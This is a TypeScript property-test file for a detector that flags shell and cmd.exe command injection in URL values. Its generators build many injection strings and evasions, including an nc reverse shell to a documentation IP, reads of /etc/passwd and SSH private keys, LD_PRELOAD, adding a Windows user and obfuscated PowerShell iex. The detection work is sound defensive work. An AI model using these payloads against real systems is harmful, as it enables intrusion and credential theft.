// Property tests for the techniques of TECHNIQUES.md that read the shell's own expansions and
// names: variables the value assigns and then runs, arithmetic expansion, $"…" strings, programs
// named by a bin-directory path, cmd.exe switches glued to the name, argv lists smuggled as one
// argument, backticks and subshells glued to a separator, case/function structures. And the
// benign side they must leave alone: documentation sentences that quote a command, menus joined
// by pipes, markup around a value.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Input } from "../../payloads/inputs.ts";
import { shellFinding } from "./detectors.ts";

const input = (decoded: string, part = "q"): Input => ({ field: "url.original", part, raw: decoded, decoded });
const fires = (text: string) => shellFinding(input(text.toLowerCase())) !== null;

const CONTEXTS = ["", "x", "127.0.0.1", "'", '"', "a'", 'b"'];
const SEPARATORS = [";", "&&", "||", "|", "\n"];
const varName = fc.constantFrom("a", "x", "cmd", "p1", "_t", "garb");

describe("shell expansions and names", () => {
  it("a variable the value assigns runs as the command word ($a, ${a}, halves joined)", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...CONTEXTS),
        fc.constantFrom(";", "&&", "\n"),
        varName,
        varName,
        fc.constantFrom("nc", "whoami", "uname", "wget", "cat"),
        fc.constantFrom("", " -a", " /etc/hosts", " -nlvp 4444"),
        fc.boolean(),
        (context, sep, v1, v2, tool, arg, braces) => {
          const ref = (v: string) => (braces ? `\${${v}}` : `$${v}`);
          const whole = `${context}${sep}${v1}=${tool}${sep}${ref(v1)}${arg}`;
          const [head, tail] = [tool.slice(0, 1), tool.slice(1)];
          const halves =
            v1 === v2 ? whole : `${context}${sep}${v1}=${head}${sep}${v2}=${tail}${sep}${ref(v1)}${ref(v2)}${arg}`;
          return fires(whole) && fires(halves);
        },
      ),
    );
  });

  it("$((n)) yields n inside a name, and $((…)) alone is shell arithmetic", () => {
    fc.assert(
      fc.property(fc.integer({ min: 0, max: 999 }), fc.constantFrom("", "x=", "q "), (n, before) =>
        fires(`${before}$((${n}))`),
      ),
    );
    expect(fires("$((7))z -wrapper sh,-c,id")).toBe(true);
  });

  it("a name inside $\"…\" or $'…' strings, in a brace list", () => {
    fc.assert(
      fc.property(
        fc.constantFrom("whoami", "ifconfig", "uname"),
        fc.constantFrom('"', "'"),
        (name, quote) => fires(`{,$${quote}${name}${quote},}`) && fires(`x;$${quote}${name}${quote} -a`),
      ),
    );
  });

  it("a path into a bin directory names a program whatever its name, absolute or relative", () => {
    const name = fc.stringMatching(/^[a-z][a-z0-9-]{2,10}$/);
    fc.assert(
      fc.property(
        fc.constantFrom("/bin/", "/sbin/", "/usr/bin/", "/usr/local/sbin/"),
        name,
        fc.constantFrom("", " --version", " -l"),
        (dir, program, arg) => fires(`${dir}${program}${arg}`) && fires(`x;${dir}${program}`),
      ),
    );
    fc.assert(
      fc.property(
        fc.constantFrom("bin/", "usr/bin/", "../../bin/", "../usr/sbin/"),
        fc.constantFrom("gunzip", "visudo", "ansible", "crontab"),
        (dir, program) => fires(`${dir}${program}`),
      ),
    );
    // Not in a URL path, where it is a file name; not an unknown name under a project's bin/.
    expect(shellFinding(input("/usr/bin/gunzip", "path"))).toBeNull();
    expect(fires("bin/rails")).toBe(false);
  });

  it("cmd.exe: a switch glued to the command name after & | && ||", () => {
    fc.assert(
      fc.property(
        fc.constantFrom("&", "|", "&&", "||"),
        fc.constantFrom("ipconfig/all", "whoami/priv", "dir/s", "tasklist/v", "systeminfo/fo"),
        fc.constantFrom("", " x.txt"),
        (sep, command, arg) => fires(`view.jpg${sep}${command}${arg}`),
      ),
    );
  });

  it("a shell argv written as a comma list (cc -wrapper sh,-c,…) runs a shell", () => {
    fc.assert(
      fc.property(
        fc.constantFrom("c99", "c89", "gcc", "cc", "x;cc"),
        fc.constantFrom("sh", "bash", "/bin/sh", "dash"),
        fc.constantFrom("id", "curl example.com", "whoami"),
        (compiler, shell, code) => fires(`${compiler} -wrapper ${shell},-c,${code} .`),
      ),
    );
  });

  it("backticks and subshells glued to a separator run what they hold", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(";", "|", "&&", "="),
        fc.constantFrom("printf id", "echo x", "id", "who", "ps"),
        (sep, body) => fires(`x${sep}\`${body}\``),
      ),
    );
    fc.assert(
      fc.property(fc.constantFrom(";", "|", "&&"), fc.constantFrom("id", "ps", "who"), (s, p) => fires(`x${s}(${p})`)),
    );
  });

  it("case … esac and function NAME { … } are control structures", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...SEPARATORS),
        fc.constantFrom("id", "whoami", "sleep 5"),
        varName,
        (sep, body, name) =>
          fires(`x${sep}case ${name} in *) ${body};; esac`) && fires(`x${sep}function ${name} { ${body}; }`),
      ),
    );
    expect(fires("function f() { return 1; }")).toBe(false);
    // A named definition called as a command runs its body; C and JavaScript call with parentheses.
    fc.assert(
      fc.property(
        fc.constantFrom(";", "&&", "\n"),
        varName,
        fc.constantFrom("id", "whoami", "cat /etc/hosts"),
        (sep, name, body) => fires(`x${sep}${name}(){ ${body}; }${sep}${name}`),
      ),
    );
    expect(fires("function f() { return 1; }; f()")).toBe(false);
    expect(fires("int f(){ return id; }; f();")).toBe(false);
  });
});

describe("a value that is a command line", () => {
  it("a tool with a path, URL or file it writes fires; the same in a sentence does not", () => {
    const tool = fc.constantFrom("uname", "netstat", "wget", "curl", "nmap");
    const target = fc.constantFrom("/etc/hosts", "http://198.51.100.7/x", "./run.sh", "> /tmp/out", ">> notes.txt");
    fc.assert(fc.property(tool, target, (t, x) => fires(`${t} -q ${x}`)));
    fc.assert(
      fc.property(
        tool,
        target.filter((x) => !x.startsWith(">")),
        fc.constantFrom("to see the result", "shows the details of the system", "and read the output"),
        (t, x, prose) => !fires(`${t} -q ${x} ${prose}`),
      ),
    );
    // A word-command needs a path or a file it writes (a URL is nothing to cat).
    fc.assert(
      fc.property(
        fc.constantFrom("tar", "cat", "echo", "printf"),
        fc.constantFrom("/etc/hosts", "> cmd.php", ">> /tmp/x"),
        (t, x) => fires(`${t} x ${x}`),
      ),
    );
    // Options alone are how prose quotes a command (ls -la), and a tool's name with words is a search.
    expect(fires("ls -la")).toBe(false);
    expect(fires("whoami tv show")).toBe(false);
  });
});

describe("more of the POSIX grammar", () => {
  it("assignments before the command word, $0 as the shell, IFS with an operator, $(<file), { …; }, here-strings", () => {
    const sep = fc.constantFrom(";", "&&", "\n", "|");
    fc.assert(
      fc.property(
        sep,
        fc.constantFrom("PATH=/tmp", "LD_PRELOAD=/tmp/x.so", "a=1 b=2"),
        fc.constantFrom("nc -e sh 198.51.100.1 9", "whoami", "id"),
        (s, assign, command) => fires(`x${s}${assign} ${command}`),
      ),
    );
    fc.assert(fc.property(sep, fc.constantFrom("-c id", "-i", "-c 'uname -a'"), (s, arg) => fires(`x${s}$0 ${arg}`)));
    fc.assert(
      fc.property(fc.constantFrom("${IFS%?}", "${IFS%%?}", "${IFS:0:1}", "${IFS##*}"), (ifs) =>
        fires(`x;cat${ifs}/etc/hosts`),
      ),
    );
    fc.assert(
      fc.property(fc.constantFrom("flag.txt", "/etc/hosts", " ~/.ssh/id_rsa"), (f) => fires(`x;echo $(<${f})`)),
    );
    fc.assert(fc.property(sep, fc.constantFrom("id", "whoami", "ps"), (s, p) => fires(`x${s}{ ${p}; }`)));
    fc.assert(
      fc.property(fc.constantFrom("bash", "sh", "python3"), fc.constantFrom("id", "$(echo aWQ=|base64 -d)"), (i, c) =>
        fires(`${i}<<<${c}`),
      ),
    );
  });

  it("cmd.exe: the interpreter named by a variable, told to run the rest", () => {
    fc.assert(
      fc.property(
        fc.constantFrom("%comspec%", "cmd", "cmd.exe", "c:\\windows\\system32\\cmd.exe"),
        fc.constantFrom("/c", "/k"),
        fc.constantFrom("whoami", "dir", "type x"),
        (interpreter, flag, command) => fires(`${interpreter} ${flag} ${command}`),
      ),
    );
  });
});

describe("Windows and tool grammars", () => {
  it("cmd.exe: the command after an if condition, and for /l /f /d /r loops", () => {
    fc.assert(
      fc.property(
        fc.constantFrom("&", "|", "&&"),
        fc.constantFrom("exist c:\\boot.ini", "not exist x", "defined path", "errorlevel 1", "/i a==a"),
        fc.constantFrom("type c:\\windows\\win.ini", "whoami", "net user x /add", "dir /s c:\\"),
        (sep, condition, command) => fires(`x${sep}if ${condition} ${command}`),
      ),
    );
    fc.assert(
      fc.property(
        fc.constantFrom("/l", "/f", "/d", "/r"),
        fc.constantFrom("ping x", "whoami", "echo %i"),
        (flag, body) => fires(`x&for ${flag} %i in (1,1,5) do ${body}`),
      ),
    );
  });

  it("PowerShell: the format operator and Get-Command wildcards fold into the name they run", () => {
    const format = (name: string) =>
      fc
        .integer({ min: 1, max: name.length - 1 })
        .map((at) => `("{1}{0}" -f '${name.slice(at)}','${name.slice(0, at)}')`);
    fc.assert(
      fc.property(
        fc.constantFrom("iex", "invoke-expression").chain(format),
        fc.constantFrom("whoami", "'id'", "$x"),
        (call, arg) => fires(`x;&${call} ${arg}`),
      ),
    );
    fc.assert(
      fc.property(
        fc.constantFrom("&", "."),
        fc.constantFrom("gcm", "get-command"),
        fc.constantFrom("*ke-e*", "i?x"),
        (op, gcm, glob) => fires(`x;${op}(${gcm} ${glob}) whoami`),
      ),
    );
    expect(fires("x; gci env:")).toBe(true);
  });

  it("sqlite3's .shell and .system hand the line to a shell", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(";", "\n", "'; "),
        fc.constantFrom(".shell", ".system"),
        fc.constantFrom("id", "cat /etc/passwd", "whoami"),
        (sep, meta, command) => fires(`x${sep}${meta} ${command}`),
      ),
    );
  });
});

describe("what these readings leave alone", () => {
  /** Documentation: "Use git log | head -20 to see the last commits". */
  it("a sentence that quotes a command line after a separator", () => {
    const verb = fc.constantFrom("see", "list", "check", "update", "install", "find");
    const rest = fc.constantFrom("the last commits", "your files", "the logs", "all packages", "it");
    fc.assert(
      fc.property(
        fc.constantFrom("Use", "Run", "Then run", "Type"),
        fc.constantFrom("git log --oneline", "sudo apt update", "npm ls", "ls -la"),
        fc.constantFrom(" | head -20", " && sudo apt upgrade", " | sort -r", " && make"),
        verb,
        rest,
        (lead, first, second, v, r) => !fires(`${lead} ${first}${second} to ${v} ${r}`),
      ),
    );
  });

  it("menus and lists joined by pipes end in words, not commands", () => {
    const item = fc.constantFrom("sort", "filter", "export", "print", "share", "help", "more", "find", "join");
    fc.assert(fc.property(fc.array(item, { minLength: 2, maxLength: 5 }), (items) => !fires(items.join(" | "))));
  });

  it("lists of products and prices joined by separators", () => {
    const product = fc.constantFrom(
      "Docker",
      "Kubernetes",
      "Terraform",
      "Emacs",
      "Vim",
      "CMake",
      "Pandoc",
      "Vagrant",
      "GIMP",
    );
    const price = fc.constantFrom("$0", "$5", "$0.99", "free");
    fc.assert(
      fc.property(
        fc.constantFrom("Skills: ", "Tools: ", "We use ", "Languages: "),
        fc.array(product, { minLength: 2, maxLength: 5 }),
        fc.constantFrom("; ", " | ", " & ", ", "),
        (lead, items, joiner) => !fires(lead + items.join(joiner)),
      ),
    );
    fc.assert(fc.property(price, price, (a, b) => !fires(`Subtotal: ${a}; Shipping: ${b}; Total: ${a}`)));
  });

  it("JavaScript template literals with operators are no shell parameter expansion", () => {
    fc.assert(
      fc.property(
        fc.constantFrom("i", "count", "n"),
        fc.constantFrom("%", "%2", " % 3", "+1"),
        (name, op) => !fires(`\`row-\${${name}${op}}\``),
      ),
    );
  });

  it("markup around a value is no redirection", () => {
    fc.assert(
      fc.property(
        fc.constantFrom("comment", "note", "soap:body", "text"),
        fc.constantFrom("cd into the folder, then make && make install", "a & b", "x | y"),
        (tag, text) => !fires(`<${tag}>${text}</${tag}>`),
      ),
    );
  });

  it("stays linear on long inputs of the new constructs", () => {
    for (const unit of [
      "a=bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb;",
      "$a$a$a",
      "$((",
      "$((1))",
      "<a>",
      "</a>",
      "x/y&",
    ]) {
      const text = `a=${"b".repeat(200)};` + unit.repeat(Math.ceil(16_384 / unit.length));
      const started = performance.now();
      shellFinding(input(text));
      expect(performance.now() - started).toBeLessThan(250);
    }
  });
});
